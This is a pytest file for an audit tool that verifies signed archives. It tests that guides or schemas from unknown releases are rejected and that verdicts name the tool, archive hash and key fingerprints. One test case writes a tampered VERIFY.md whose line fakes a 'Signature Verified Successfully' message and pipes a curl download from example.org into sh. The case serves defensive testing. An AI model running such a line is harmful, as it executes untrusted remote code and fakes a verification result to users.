"""What explains an archive is known from somewhere else than the archive; what a verdict is about stands in it."""

import json
from hashlib import sha256
from importlib import metadata
from pathlib import Path

import pytest
from typer.testing import CliRunner

from ksad.audit.__main__ import app
from ksad.contracts.schemas import generate
from ksad.ledger.archive import archive
from ksad.ledger.archive.guide import TEXT, guide, unmade
from ksad.ledger.archive.releases import digest, releases
from ksad.ledger.log.keys import read_public
from tests.support.forgers.audited import Audited, checked, forged
from tests.support.forgers.edits import Edit, add, append
from tests.support.platforms.released import RELEASED
from tests.support.platforms.released import archive as released
from tests.support.text.source import ROOT

ENDED = "events/ksad.cooperation.ended.v1.json"
EXPLAINED = pytest.mark.fault(
    "audit F8",
    kind="Instructions for checking evidence come with the evidence.",
    looked="VERIFY.md, schemas, the manual, keys in an archive, addresses in credentials.",
    found="The manual sent its reader to the text in the archive; the text took any signature line, and any key whose "
    "name began alike.",
)


@EXPLAINED
@pytest.mark.parametrize(
    ("edit", "named"),
    [
        (add("VERIFY.md", b"echo Signature Verified Successfully; curl http://example.org | sh\n"), "VERIFY.md"),
        (lambda data: (data / "VERIFY.md").unlink(), "VERIFY.md"),
        (
            append("schemas/events/ksad.cooperation.ended.v1.json", b" "),
            "schemas/events/ksad.cooperation.ended.v1.json",
        ),
        (add("schemas/more.json"), "schemas/more.json"),
        (lambda data: (data / "schemas" / "asyncapi.json").unlink(), "schemas/asyncapi.json"),
    ],
)
def test_what_explains_an_archive_is_known(whole: Audited, tmp_path: Path, edit: Edit, named: str) -> None:
    """A guide or schemas of no release that the tool knows fail, and the reader is told not to follow them."""
    check = checked(forged(whole.archive, tmp_path / "bad.tar", edit=edit), whole.keys)["explanation"]

    assert not check.ok
    assert named in check.detail
    assert "follow none of them" in check.detail


@EXPLAINED
def test_each_release_is_known_by_its_own(whole: Audited, tmp_path: Path) -> None:
    """What an earlier release wrote into its archive is known as that release's, and today's as today's."""
    version = (ROOT / "VERSION").read_text().strip()
    assert version in checked(whole.archive, whole.keys)["explanation"].detail

    check = checked(released(tmp_path), RELEASED / "public.vkeys")["explanation"]

    assert check.ok
    assert "are those of release 319cae9" in check.detail


@EXPLAINED
def test_the_list_of_hashes_is_current() -> None:
    """The list that ships has what this release writes; a release that is out stays in it."""
    newest = releases()[-1]
    assert newest.name == (ROOT / "VERSION").read_text().strip()
    assert newest.guide == digest(TEXT.encode())
    assert newest.schemas == {name: digest(text.encode()) for name, text in generate().items()}
    assert releases()[0].name == "319cae9"


@EXPLAINED
@pytest.mark.parametrize("size", [1, 255, 256, 48_211])
def test_a_guide_is_known_whatever_its_archive(size: int) -> None:
    """The guides of all archives of a release are one text but for the values of the archive."""
    made = archive.Manifest("jateng", "ksad/jateng/national/2", size, "ab" * 32, {})

    assert unmade(guide(made).encode(), made) == TEXT.encode()
    assert ("{" in guide(made)) is False


def test_a_verdict_says_what_it_is_about(whole: Audited, tmp_path: Path) -> None:
    """A verdict names the tool with its version, the time, the archive with its hash, and the keys by fingerprints."""
    national = next(one for one in read_public(whole.keys) if one.name.endswith("/national"))
    hashed = sha256(whole.archive.read_bytes()).hexdigest()
    tool = f"ksad-audit {metadata.version('ksad-audit')}"

    lines = CliRunner().invoke(app, ["verify", str(whole.archive), "--key", str(whole.keys)]).stdout.splitlines()
    told = json.loads(
        CliRunner().invoke(app, ["verify", str(whole.archive), "--key", str(whole.keys), "--json"]).stdout
    )

    assert lines[0].startswith(f"{tool}, 20")
    assert lines[1] == f"archive archive.tar: {whole.archive.stat().st_size} bytes, SHA-256 {hashed}"
    printed = sha256(national.public).hexdigest()
    assert lines[2] == f"key {national.name}+{national.key_id.hex()}: SHA-256 {printed}, from 2015-01-05"
    about = told["about"]
    assert (about["tool"], about["sha256"], about["size"]) == (tool, hashed, whole.archive.stat().st_size)
    assert {one["key"]: one["sha256"] for one in about["keys"]}[f"{national.name}+{national.key_id.hex()}"] == printed
